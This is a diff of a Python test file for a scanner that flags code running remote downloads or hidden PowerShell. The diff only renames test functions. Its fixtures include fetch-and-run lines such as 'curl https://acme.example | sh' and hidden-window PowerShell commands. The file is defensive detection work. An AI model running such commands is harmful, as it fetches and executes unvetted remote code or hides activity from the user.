@@ -50,11 +50,11 @@ def test_a_command_that_fetches_and_runs_is_found(code: str, severity: Severity)
         'cp.exec("nohup curl -so x.sh https://acme.example/x.sh &")',
     ],
 )
-def test_other_commands_are_none(code: str) -> None:
+def test_commands_that_run_no_download_are_not_found(code: str) -> None:
     assert found(EXEC + code) == {}
 
 
-def test_what_nothing_runs_is_a_text() -> None:
+def test_a_command_that_no_code_runs_is_not_found() -> None:
     assert found('const hint = "curl https://acme.example | sh"') == {}
 
 
@@ -108,12 +108,12 @@ def test_a_hidden_powershell_is_found(command: str) -> None:
         "powershell -Command Get-Content a.txt -en ThisIsNoBase64",
     ],
 )
-def test_an_ordinary_powershell_is_not(command: str) -> None:
+def test_an_ordinary_powershell_is_not_found(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {}
 
 
 @pytest.mark.parametrize("command", ["powershell -w hidden -c dir", "pwsh -Win Hidden -Command ls"])
-def test_a_command_without_a_window_is_less_bad(command: str) -> None:
+def test_a_command_without_a_window_is_less_severe(command: str) -> None:
     assert found(f"{EXEC}cp.exec('{command}')") == {"hidden-powershell": HIGH}
     assert found(f"show('{command}')") == {}
 
@@ -123,7 +123,7 @@ def test_a_harmless_repository_hides_no_pinned_one_in_the_same_command() -> None
     assert found(code) == {"runs-remote-code": Severity.CRITICAL}
 
 
-def test_a_line_longer_than_is_looked_back_is_no_comment() -> None:
+def test_a_line_beyond_the_lookback_is_not_a_comment() -> None:
     """Two slashes just where the look back ends begin no line."""
     before = 'require("child_process").exec("'
     slashes = "'" + "//".ljust(10_000 - len(before) - 2) + "';"
